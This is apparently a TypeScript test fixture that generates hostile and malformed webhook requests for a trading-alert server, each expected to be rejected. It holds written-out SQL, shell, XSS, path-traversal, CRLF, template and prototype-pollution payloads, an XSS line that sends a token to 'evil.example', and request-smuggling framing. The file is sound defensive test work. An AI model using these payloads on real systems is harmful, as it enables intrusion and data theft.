/**
 * A corpus of hostile and broken webhook requests, generated from a seed. Each case is sent as raw
 * bytes (test/support/raw-http.ts), so paths are not normalised and broken framing stays broken.
 *
 * Every case must be refused with a 4xx and `{"error":{"code","message"}}`. Where a case carries
 * the right webhook secret, something else in it is invalid: the server must find that, never
 * execute it. Hostile values go into the fields the intake validates (strategy, action, numbers,
 * secret, path), and into free-text fields (symbol, id, comment, account) of alerts that are
 * invalid anyway, so they reach the journal as rejections.
 */
import type { Rng } from '../support/seeded-random.js';

export const CATEGORIES = [
  'malformed-json',
  'truncated-json',
  'not-an-object',
  'huge-body',
  'deep-nesting',
  'content-type',
  'prototype-pollution',
  'numbers',
  'unicode-control',
  'injection',
  'wrong-secret',
  'timing-probe',
  'slow-body',
  'method-path',
  'protocol',
] as const;
export type Category = (typeof CATEGORIES)[number];

export interface HostileCase {
  category: Category;
  name: string;
  method: string;
  path: string;
  /** Extra headers, in order (Host, X-Forwarded-For, Content-Length and Connection are added). */
  headers: [string, string][];
  body: Buffer;
  /** Send the body with Transfer-Encoding: chunked (this many bytes per chunk). */
  chunkBytes?: number;
  /** The request head exactly as given (protocol cases): nothing is added. */
  rawHead?: string;
  trickle?: { bytes: number; everyMs: number };
  /** The status it must get, where the case pins one; else any 4xx. */
  status?: number;
  /** The error code it must get, where the case pins one. */
  code?: string;
  /** Sent in order, one at a time, all from the same source. */
  sequential?: boolean;
  /** The source address (X-Forwarded-For) to claim; default: one of its own. */
  source?: string;
}

/** A marker file a successful shell injection would create. */
export const pwnedFile = (seed: number) => `/tmp/pinebridge-pwned-${seed}`;

export const INJECTION_STRINGS = (seed: number): string[] => [
  // SQL
  `' OR '1'='1`,
  `"; DROP TABLE alerts; --`,
  `1; DELETE FROM order_intents WHERE 1=1; --`,
  `' UNION SELECT client_order_id, secret FROM order_intents --`,
  `Robert'); DROP TABLE alerts;--`,
  // shell
  `$(touch ${pwnedFile(seed)})`,
  `\`touch ${pwnedFile(seed)}\``,
  `; touch ${pwnedFile(seed)} #`,
  `| touch ${pwnedFile(seed)}`,
  `&& touch ${pwnedFile(seed)}`,
  // HTML / script
  `<script>alert(document.cookie)</script>`,
  `<img src=x onerror="fetch('//evil.example/'+localStorage.token)">`,
  `javascript:alert(1)`,
  `"><svg/onload=alert(1)>`,
  // path traversal
  `../../../../etc/passwd`,
  `..\\..\\..\\windows\\win.ini`,
  `%2e%2e%2f%2e%2e%2fetc%2fpasswd`,
  `/etc/shadow\u0000.json`,
  // CRLF / header and log injection
  `x\r\nSet-Cookie: pwned=1`,
  `x\r\nX-Injected: 1\r\n\r\n<html>`,
  `ok\n{"level":50,"msg":"fake log line: secret leaked"}`,
  // templates and format strings
  `\${process.exit(1)}`,
  `#{7*7}{{constructor.constructor('return process')().exit()}}`,
  `%s%s%s%n%x%p`,
  `{"$where":"sleep(10000)"}`,
];

const enc = (s: string) => Buffer.from(s, 'utf8');
const json = (v: unknown) => enc(JSON.stringify(v));

export function buildCorpus(secret: string, rng: Rng, seed: number): HostileCase[] {
  const cases: HostileCase[] = [];
  let n = 0;
  const valid = (over: Record<string, unknown> = {}): Record<string, unknown> => ({
    secret,
    strategy: 'hostile',
    action: 'buy',
    symbol: 'BTCUSDT',
    quantity: '0.001',
    price: '65000',
    id: `hostile-${n++}`,
    ...over,
  });
  /** The valid alert's JSON with `"name": <raw JSON text>` appended (the last key wins). */
  const rawField = (name: string, raw: string) => enc(JSON.stringify(valid()).replace(/\}$/, `,${JSON.stringify(name)}:${raw}}`));
  const add = (category: Category, name: string, c: Partial<HostileCase> & { body?: Buffer }) =>
    cases.push({ category, name, method: 'POST', path: '/webhook', headers: [['Content-Type', 'application/json']], body: Buffer.alloc(0), ...c });

  // --- Malformed JSON (the right secret inside, where there is a place for it) ---
  const s = JSON.stringify(secret);
  const malformed = [
    `{`,
    `}`,
    `{"secret": ${s},`,
    `{"secret": }`,
    `{'secret': '${secret}', 'action': 'buy'}`,
    `{"secret": ${s}, "action": "buy",}`,
    `{secret: ${s}, action: "buy", symbol: "BTCUSDT"}`,
    `{"secret": ${s}}}`,
    `{"secret": ${s}} {"action": "buy"}`,
    `{"secret": ${s}, "action": "buy" "symbol": "BTCUSDT"}`,
    `{"secret": ${s}, "action": "unterminated}`,
    `{"secret": ${s}, "action": "\\x62uy"}`,
    `{"secret": ${s}, "action": "\\u12"}`,
    `{"secret": ${s}, "quantity": 01}`,
    `{"secret": ${s}, "quantity": .5}`,
    `{"secret": ${s}, "quantity": +1}`,
    `{"secret": ${s}, "quantity": 1e}`,
    `{"secret": ${s}, "quantity": NaN}`,
    `{"secret": ${s}, "quantity": Infinity}`,
    `{"secret": ${s}, "quantity": -Infinity}`,
    `{"secret": ${s}, "quantity": undefined}`,
    `{"secret": ${s}, "flag": tru}`,
    `{/* comment */ "secret": ${s}, "action": "buy"}`,
    `{"secret": ${s}, "action": "buy"} // trailing comment`,
    `{"secret"::${s}}`,
    `{,}`,
    `{"secret": ${s}, "legs": [1, 2,]}`,
    `{"secret": ${s}, "action": "buy", "symbol": "BTCUSDT", "quantity": "0.001"`,
    `{"secret": ${s}, "action": "buy\n"}`,
    `{"secret": ${s}, "price": {{close}}, "action": "buy", "symbol": "BTCUSDT"}`,
  ];
  malformed.forEach((text, i) => add('malformed-json', `malformed #${i}: ${text.slice(0, 40)}`, { body: enc(text), status: 400 }));

  // --- Truncated: a valid alert (right secret) cut short anywhere ---
  const full = JSON.stringify(valid({ comment: 'truncated in transit' }));
  const cuts = new Set<number>([1, 2, full.length - 1, full.length - 2]);
  while (cuts.size < 22) cuts.add(rng.int(1, full.length - 1));
  for (const cut of [...cuts].sort((a, b) => a - b)) {
    add('truncated-json', `cut at ${cut}/${full.length}`, { body: enc(full.slice(0, cut)), status: 400 });
  }

  // --- Not an object, or not JSON at all ---
  const notObjects: [string, string][] = [
    ['empty body', ''],
    ['whitespace', ' \r\n\t '],
    ['null', 'null'],
    ['true', 'true'],
    ['a number', '42'],
    ['a string', JSON.stringify(secret)],
    ['an empty array', '[]'],
    ['an array holding a valid alert', JSON.stringify([valid()])],
    ['plain text with the secret', `buy BTCUSDT 0.001 secret=${secret}`],
    ['form-encoded text', `secret=${secret}&action=buy&symbol=BTCUSDT&quantity=0.001`],
    ['XML', `<alert><secret>${secret}</secret><action>buy</action></alert>`],
    ['YAML', `secret: ${secret}\naction: buy\nsymbol: BTCUSDT`],
  ];
  for (const [name, text] of notObjects) add('not-an-object', name, { body: enc(text), headers: [['Content-Type', 'text/plain']], status: 400 });

  // --- Huge bodies ---
  const big = (bytes: number) => {
    const o = valid({ pad: '' });
    o.pad = 'A'.repeat(bytes - JSON.stringify(o).length);
    return json(o);
  };
  add('huge-body', 'one byte over 64 KiB', { body: big(64 * 1024 + 1), status: 413, code: 'body_too_large' });
  add('huge-body', '1 MiB', { body: big(1024 * 1024), status: 413, code: 'body_too_large' });
  add('huge-body', '6 MiB', { body: big(6 * 1024 * 1024), status: 413, code: 'body_too_large' });
  add('huge-body', '200 KiB chunked, no Content-Length', { body: big(200 * 1024), chunkBytes: 16 * 1024, status: 413, code: 'body_too_large' });
  add('huge-body', 'Content-Length of 99 GB announced, a few bytes sent', {
    body: enc('{"secret"'),
    headers: [['Content-Type', 'application/json'], ['Content-Length', '99999999999']],
    status: 413,
  });
  const manyKeys: Record<string, unknown> = { secret, symbol: 'BTCUSDT', id: `hostile-${n++}` };
  for (let i = 0; i < 4000; i++) manyKeys[`k${i}`] = i;
  add('huge-body', '4000 keys just under the limit, action missing', { body: json(manyKeys), status: 400 });
  add('huge-body', 'a 60 KB strategy name', { body: json(valid({ strategy: 'S'.repeat(60_000) })), status: 400 });
  add('huge-body', 'a 60 KB quantity of digits', { body: json(valid({ quantity: '9'.repeat(60_000) })), status: 400 });
  add('huge-body', '1500 legs', { body: json(valid({ legs: Array.from({ length: 1500 }, () => ({ price: '1', quantity: '1' })) })), status: 400 });
  add('huge-body', '60 KB of whitespace around a valid alert without an action', {
    body: enc(' '.repeat(30_000) + JSON.stringify(valid({ action: undefined })) + ' '.repeat(30_000)),
    status: 400,
  });

  // --- Deep nesting ---
  const arrays = (d: number) => '['.repeat(d) + ']'.repeat(d);
  const objects = (d: number) => '{"a":'.repeat(d) + '1' + '}'.repeat(d);
  for (const d of [9, 64, 1000, 10_000]) add('deep-nesting', `${d} nested objects in a field`, { body: rawField('x', objects(d)), status: 400 });
  for (const d of [10, 5000, 30_000]) add('deep-nesting', `${d} nested arrays in a field`, { body: rawField('x', arrays(d)), status: 400 });
  add('deep-nesting', '30000 nested arrays as the whole body', { body: enc(arrays(30_000)), status: 400 });
  add('deep-nesting', 'nested objects as the quantity', { body: rawField('quantity', objects(50)), status: 400 });
  add('deep-nesting', 'nested arrays in legs', { body: rawField('legs', `[${arrays(40)}]`), status: 400 });
  add('deep-nesting', 'deep nesting and no secret', { body: enc(`{"action":"buy","x":${objects(5000)}}`), status: 400 });

  // --- Content types other than JSON / text (a valid alert with the right secret inside) ---
  const types = [
    'application/x-www-form-urlencoded',
    'multipart/form-data; boundary=----pinebridge',
    'application/xml',
    'text/xml',
    'text/html',
    'application/javascript',
    'image/png',
    'application/octet-stream',
    'application/jsonx',
    'application/json-patch+json',
    'application/graphql',
    'text/csv',
    '*/*',
    'application',
    'x'.repeat(200) + '/json',
    'text/plain-but-not',
  ];
  for (const type of types) add('content-type', type.slice(0, 60), { body: json(valid()), headers: [['Content-Type', type]], status: 415 });

  // --- Prototype pollution: had the server merged these into a prototype, each would become valid ---
  const noAction = { secret, strategy: 'proto', symbol: 'BTCUSDT' };
  const proto: [string, string, number][] = [
    ['__proto__ supplies the action', `{"secret":${s},"symbol":"BTCUSDT","__proto__":{"action":"buy","quantity":"0.001"}}`, 400],
    ['__proto__ supplies the secret', `{"action":"buy","symbol":"BTCUSDT","__proto__":{"secret":${s}}}`, 401],
    ['__proto__ supplies symbol and action', `{"secret":${s},"__proto__":{"symbol":"BTCUSDT","action":"buy"}}`, 400],
    ['nested __proto__', `{"secret":${s},"symbol":"BTCUSDT","__proto__":{"__proto__":{"action":"buy"}}}`, 400],
    ['constructor.prototype', `{"secret":${s},"symbol":"BTCUSDT","constructor":{"prototype":{"action":"buy"}}}`, 400],
    ['constructor.prototype with the secret', `{"action":"buy","symbol":"BTCUSDT","constructor":{"prototype":{"secret":${s}}}}`, 401],
    ['__proto__ inside quantity', `{"secret":${s},"action":"buy","symbol":"BTCUSDT","quantity":{"__proto__":{"kind":"base","value":1}}}`, 400],
    ['__proto__ inside a leg', `{"secret":${s},"action":"buy","symbol":"BTCUSDT","legs":[{"__proto__":{"price":"1","quantity":"1"}}]}`, 400],
    ['__proto__ null', `{"secret":${s},"symbol":"BTCUSDT","__proto__":null}`, 400],
    ['__proto__ array', `{"secret":${s},"symbol":"BTCUSDT","__proto__":["action","buy"]}`, 400],
    ['prototype key', `{"secret":${s},"symbol":"BTCUSDT","prototype":{"action":"buy"}}`, 400],
    ['action named __proto__', JSON.stringify(valid({ action: '__proto__' })), 400],
    ['action named constructor', JSON.stringify(valid({ action: 'constructor' })), 400],
    ['order_type named toString', JSON.stringify(valid({ order_type: 'toString' })), 400],
    ['hasOwnProperty, toString, valueOf as keys', JSON.stringify({ ...noAction, hasOwnProperty: 1, toString: 'x', valueOf: 2 }), 400],
    ['__defineGetter__ and __lookupGetter__ keys', JSON.stringify({ ...noAction, __defineGetter__: 'action', __lookupGetter__: 'buy' }), 400],
    ['Object.prototype.polluted', `{"secret":${s},"symbol":"BTCUSDT","__proto__":{"polluted":"yes","status":"accepted","isAdmin":true}}`, 400],
  ];
  for (const [name, text, status] of proto) add('prototype-pollution', name, { body: enc(text), status });
  add('prototype-pollution', 'query string __proto__[action]=buy', { path: '/webhook?__proto__[action]=buy&constructor[prototype][action]=buy', body: json(noAction), status: 400 });
  add('prototype-pollution', '/webhook/__proto__', { path: '/webhook/__proto__', body: json(noAction), status: 401 });
  add('prototype-pollution', '/webhook/constructor', { path: '/webhook/constructor', body: json(noAction), status: 401 });
  add('prototype-pollution', 'source address __proto__', { body: json(noAction), source: '__proto__', status: 400 });
  add('prototype-pollution', 'source address constructor', { body: json(noAction), source: 'constructor', status: 400 });

  // --- NaN, Infinity, negative, absurd numbers (the right secret; the number must be refused) ---
  const badNumbers: [string, string][] = [
    ['quantity', '"NaN"'], ['quantity', '"Infinity"'], ['quantity', '"-Infinity"'], ['quantity', '-1'], ['quantity', '"-1"'],
    ['quantity', '0'], ['quantity', '"0"'], ['quantity', '"-0"'], ['quantity', '"0.0"'], ['quantity', '1e309'], ['quantity', '-1e309'],
    ['quantity', '"1e999"'], ['quantity', '"0x10"'], ['quantity', '"1,000"'], ['quantity', '"١٢٣"'], ['quantity', '"½"'],
    ['quantity', 'true'], ['quantity', 'null'], ['quantity', '[]'], ['quantity', '{}'], ['quantity', '""'], ['quantity', '" "'],
    ['quantity', '"101%"'], ['quantity', '"-5%"'], ['quantity', '"0%"'], ['quantity', '"NaN%"'], ['quantity', '"risk=0%"'],
    ['quantity', '"risk=101%"'], ['quantity', '"risk=1%"'], ['quantity', '"1e-400"'], ['quantity', '"-100usdt"'], ['quantity', '"0usdt"'],
    ['quantity', '"1e3usdt"'], ['quantity', JSON.stringify('9'.repeat(400))], ['quantity', '"Infinityusdt"'],
    ['price', '-1'], ['price', '0'], ['price', '"NaN"'], ['price', '1e309'], ['price', '"abc"'], ['price', '"-0.5"'],
    ['time', '-1'], ['time', '0'], ['time', '1e309'], ['time', '"yesterday"'], ['time', '"NaN"'], ['time', 'true'],
    ['time', '"2026-13-45T99:99:99Z"'],
    ['stop_loss', '"-2%"'], ['stop_loss', '"0%"'], ['stop_loss', '"NaN"'], ['stop_loss', '-5'], ['take_profit', '"abc%"'],
    ['take_profit', '-1e309'], ['trailing_stop', '"150%"'], ['trailing_stop', '-1'], ['trailing_stop', '"0"'],
    ['legs', '[]'], ['legs', JSON.stringify(Array.from({ length: 21 }, () => ({ price: '1', quantity: '0.001' })))],
    ['legs', '[{"price":-1,"quantity":"0.001"}]'], ['legs', '[{"price":"1","quantity":"NaN"}]'],
    // Finite but absurd: a template or unit mistake, refused before it reaches the exchange.
    ['quantity', '1e308'], ['quantity', '"1e300"'], ['quantity', '"1e-300"'], ['quantity', '"1e20usdt"'], ['price', '1e300'],
    ['price', '"1e-200"'], ['stop_loss', '1e250'], ['legs', '[{"price":"1e100","quantity":"0.001"}]'],
  ];
  for (const [field, raw] of badNumbers) add('numbers', `${field}: ${raw.slice(0, 40)}`, { body: rawField(field, raw), status: 400 });
  for (const raw of ['"NaN"', '1e309', '"Infinity"', '"abc"', 'true']) {
    add('numbers', `position (no action): ${raw}`, { body: enc(JSON.stringify({ secret, strategy: 'num', symbol: 'BTCUSDT', id: `hostile-${n++}` }).replace(/\}$/, `,"position":${raw}}`)), status: 400 });
  }

  // --- Unicode and control characters in validated fields (the right secret) ---
  const unicode: [string, string][] = [
    ['action', 'buy\u0000'], ['action', 'b\u0000uy'], ['action', 'b\u200Buy'], ['action', '\u202Ebuy'], ['action', 'ｂｕｙ'],
    ['action', 'bu\u0443'], ['action', '\uD800'], ['action', '💥'], ['action', 'buy\u0007'], ['action', '\u0085buy\u2028'],
    ['strategy', 's\u0000'], ['strategy', 'bell\u0007'], ['strategy', '\u202Eevil'], ['strategy', 'rocket 🚀'], ['strategy', '\uD83D'],
    ['strategy', 'line\u2028sep'], ['strategy', 'tab\there'], ['strategy', 'esc\u001b[31mred'], ['order_type', 'm\u0430rket'],
    ['order_type', 'market\u0000'],
  ];
  for (const [field, value] of unicode) add('unicode-control', `${field}: ${JSON.stringify(value)}`, { body: json(valid({ [field]: value })), status: 400 });
  const withBytes = (prefix: string, bytes: number[], suffix: string) => Buffer.concat([enc(prefix), Buffer.from(bytes), enc(suffix)]);
  add('unicode-control', 'invalid UTF-8 in action', { body: withBytes(`{"secret":${s},"symbol":"BTCUSDT","action":"`, [0xff, 0xfe, 0xfd], '"}'), status: 400 });
  add('unicode-control', 'overlong UTF-8 "/" in action', { body: withBytes(`{"secret":${s},"symbol":"BTCUSDT","action":"b`, [0xc0, 0xaf], 'uy"}'), status: 400 });
  add('unicode-control', 'a valid alert in UTF-16LE', { body: Buffer.from(JSON.stringify(valid()), 'utf16le'), headers: [['Content-Type', 'application/json; charset=utf-16le']], status: 400 });
  add('unicode-control', 'BOM, then an alert without a secret', { body: enc('\uFEFF' + JSON.stringify({ action: 'buy', symbol: 'BTCUSDT' })), status: 401 });
  add('unicode-control', 'NUL bytes around the body', { body: Buffer.concat([Buffer.alloc(8), json(valid()), Buffer.alloc(8)]), status: 400 });
  add('unicode-control', 'control characters in free text, action missing', {
    body: json(valid({ action: undefined, symbol: 'BTC\u0000USDT\u0007', comment: '\u001b]0;pwned\u0007\r\u0008\u007f', id: `\u0000${n++}` })),
    status: 400,
  });

  // --- Injection strings: in validated fields, in the secret, in the path, in free text and the source ---
  for (const [i, inj] of INJECTION_STRINGS(seed).entries()) {
    add('injection', `action = ${JSON.stringify(inj).slice(0, 40)}`, { body: json(valid({ action: inj })), status: 400 });
    // A few of these are fine strategy names (`javascript:alert(1)`): then the action is wrong too.
    const nameOk = /^[\p{L}\p{N} _.:#()+-]+$/u.test(inj.trim());
    add('injection', `strategy = ${JSON.stringify(inj).slice(0, 40)}`, { body: json(valid({ strategy: inj, ...(nameOk ? { action: 'hold' } : {}) })), status: 400 });
    add('injection', `secret = ${JSON.stringify(inj).slice(0, 40)}`, { body: json(valid({ secret: inj })), status: 401 });
    add('injection', `path secret = ${JSON.stringify(inj).slice(0, 40)}`, { path: `/webhook/${encodeURIComponent(inj)}`, body: json(valid({ secret: undefined })), status: 401 });
    add('injection', `free text = ${JSON.stringify(inj).slice(0, 40)}, quantity invalid`, {
      body: json(valid({ symbol: inj.slice(0, 64), comment: inj, id: `${inj.slice(0, 100)}-${i}`, account: inj.slice(0, 64), quantity: 'none' })),
      source: inj.replace(/[\r\n\0]/g, ' '),
      status: 400,
    });
  }

  // --- Wrong secrets: near misses of the real one, wrong types ---
  const flip = (at: number) => secret.slice(0, at) + (secret[at] === 'x' ? 'y' : 'x') + secret.slice(at + 1);
  const wrong: [string, unknown][] = [
    ['empty', ''], ['one character', secret.slice(0, 1)], ['half', secret.slice(0, secret.length >> 1)],
    ['all but the last character', secret.slice(0, -1)], ['one character too many', secret + 'x'], ['first character changed', flip(0)],
    ['last character changed', flip(secret.length - 1)], [`character ${rng.int(1, secret.length - 2)} changed`, flip(rng.int(1, secret.length - 2))],
    ['upper case', secret.toUpperCase()], ['leading space', ' ' + secret], ['trailing newline', secret + '\n'], ['twice', secret + secret],
    ['with a NUL', secret + '\u0000'], ['a number', 12345], ['true', true], ['null', null], ['an array holding it', [secret]],
    ['an object holding it', { value: secret }], ['fullwidth', [...secret].map((c) => (/[!-~]/.test(c) ? String.fromCharCode(c.charCodeAt(0) + 0xfee0) : c)).join('')],
  ];
  for (const [name, value] of wrong) add('wrong-secret', `body secret: ${name}`, { body: json(valid({ secret: value })), status: 401 });
  add('wrong-secret', 'no secret at all', { body: json(valid({ secret: undefined })), status: 401, code: 'missing_secret' });
  add('wrong-secret', 'secret in the query string only', { path: `/webhook?secret=${encodeURIComponent(secret)}`, body: json(valid({ secret: undefined })), status: 401 });
  add('wrong-secret', 'secret in an Authorization header only', { headers: [['Content-Type', 'application/json'], ['Authorization', `Bearer ${secret}`]], body: json(valid({ secret: undefined })), status: 401 });
  for (const [name, value] of [['prefix', secret.slice(0, 20)], ['one too many', secret + 'x'], ['last changed', flip(secret.length - 1)], ['with %00', secret + '%00'], ['leading %20', '%20' + secret]] as const) {
    add('wrong-secret', `path secret: ${name}`, { path: `/webhook/${value.includes('%') ? value : encodeURIComponent(value)}`, body: json(valid({ secret: undefined })), status: 401 });
  }
  add('wrong-secret', 'right path secret on a longer path', { path: `/webhook/${secret}/x`, body: json(valid({ secret: undefined })), status: 404 });

  // --- Timing probe: a run of near-miss prefixes from one source: 401s, then the limiter's 429s ---
  const probeSource = '203.0.113.77';
  for (let k = 1; k <= 26; k++) {
    const guess = secret.slice(0, Math.min(k, secret.length - 1)) + 'Z'.repeat(Math.max(0, secret.length - k));
    add('timing-probe', `prefix of ${k}`, { body: json(valid({ secret: guess })), sequential: true, source: probeSource });
  }

  // --- Slow bodies: trickled past the body timeout (the test sets it to 1.5 s) ---
  add('slow-body', 'Content-Length body, a byte every 400 ms', { body: json(valid()), trickle: { bytes: 1, everyMs: 400 }, status: 408, code: 'body_timeout' });
  add('slow-body', 'chunked body, a chunk every 400 ms', { body: json(valid()), chunkBytes: 2, trickle: { bytes: 7, everyMs: 400 }, status: 408, code: 'body_timeout' });

  // --- Wrong methods and paths ---
  for (const method of ['GET', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'TRACE', 'PROPFIND']) {
    add('method-path', `${method} /webhook`, { method, body: method === 'GET' || method === 'TRACE' ? Buffer.alloc(0) : json(valid()), status: 405 });
  }
  add('method-path', 'GET /webhook/<secret>', { method: 'GET', path: `/webhook/${secret}`, status: 405 });
  add('method-path', 'POST /healthz', { path: '/healthz', body: json(valid()), status: 405 });
  add('method-path', 'DELETE /readyz', { method: 'DELETE', path: '/readyz', status: 405 });
  const paths: [string, number][] = [
    ['/', 404], ['/webhooks', 404], ['/webhook/a/b', 404], ['/WEBHOOK', 404], ['/webhook//', 404], ['/api/getStatus', 404],
    ['/api/events', 404], ['/metrics', 404], ['/index.html', 404], ['/../../etc/passwd', 404], ['/webhook/../../etc/passwd', 404],
    ['/%2e%2e/%2e%2e/etc/passwd', 404], ['/webhook/..%2f..%2fetc%2fpasswd', 401], ['/webhook%00', 404], ['/webhook/' + 'a'.repeat(300), 404],
    ['/webhook;secret=x', 404], ['//webhook', 404], ['/webhook/%E0%A4%A', 401], ['/webhook/%', 401], ['/.env', 404], ['/webhook.json', 404],
  ];
  for (const [path, status] of paths) add('method-path', `POST ${path.slice(0, 60)}`, { path, body: json(valid()), status });
  add('method-path', 'absolute-form URL to another host', { path: 'http://evil.example/webhook', body: json(valid({ action: 'hold' })), status: 400 });

  // --- Broken HTTP framing (answered by the HTTP layer, before the app) ---
  const host = 'Host: 127.0.0.1';
  const protocol: [string, string, string][] = [
    ['garbage request line', 'GARBAGE', ''],
    ['unknown HTTP version', `POST /webhook HTTP/9.9\r\n${host}`, ''],
    ['header without a colon', `POST /webhook HTTP/1.1\r\n${host}\r\nNoColonHere`, ''],
    ['CR inside a header value', `POST /webhook HTTP/1.1\r\n${host}\r\nX-Forwarded-For: 1.2.3.4\rX-Injected: 1\r\nContent-Length: 2`, '{}'],
    ['space in the path', `POST /webhook /x HTTP/1.1\r\n${host}`, ''],
    ['Content-Length and Transfer-Encoding (smuggling)', `POST /webhook HTTP/1.1\r\n${host}\r\nContent-Type: application/json\r\nContent-Length: 4\r\nTransfer-Encoding: chunked`, '0\r\n\r\n'],
    ['two different Content-Lengths', `POST /webhook HTTP/1.1\r\n${host}\r\nContent-Length: 2\r\nContent-Length: 40`, '{}'],
    ['negative Content-Length', `POST /webhook HTTP/1.1\r\n${host}\r\nContent-Length: -5`, '{}'],
    ['bad chunk size', `POST /webhook HTTP/1.1\r\n${host}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked`, 'zz\r\n{}\r\n0\r\n\r\n'],
    ['a 40 KB header', `POST /webhook HTTP/1.1\r\n${host}\r\nX-Big: ${'b'.repeat(40_000)}\r\nContent-Length: 2`, '{}'],
  ];
  for (const [name, head, body] of protocol) add('protocol', name, { rawHead: head, body: enc(body) });

  return cases;
}
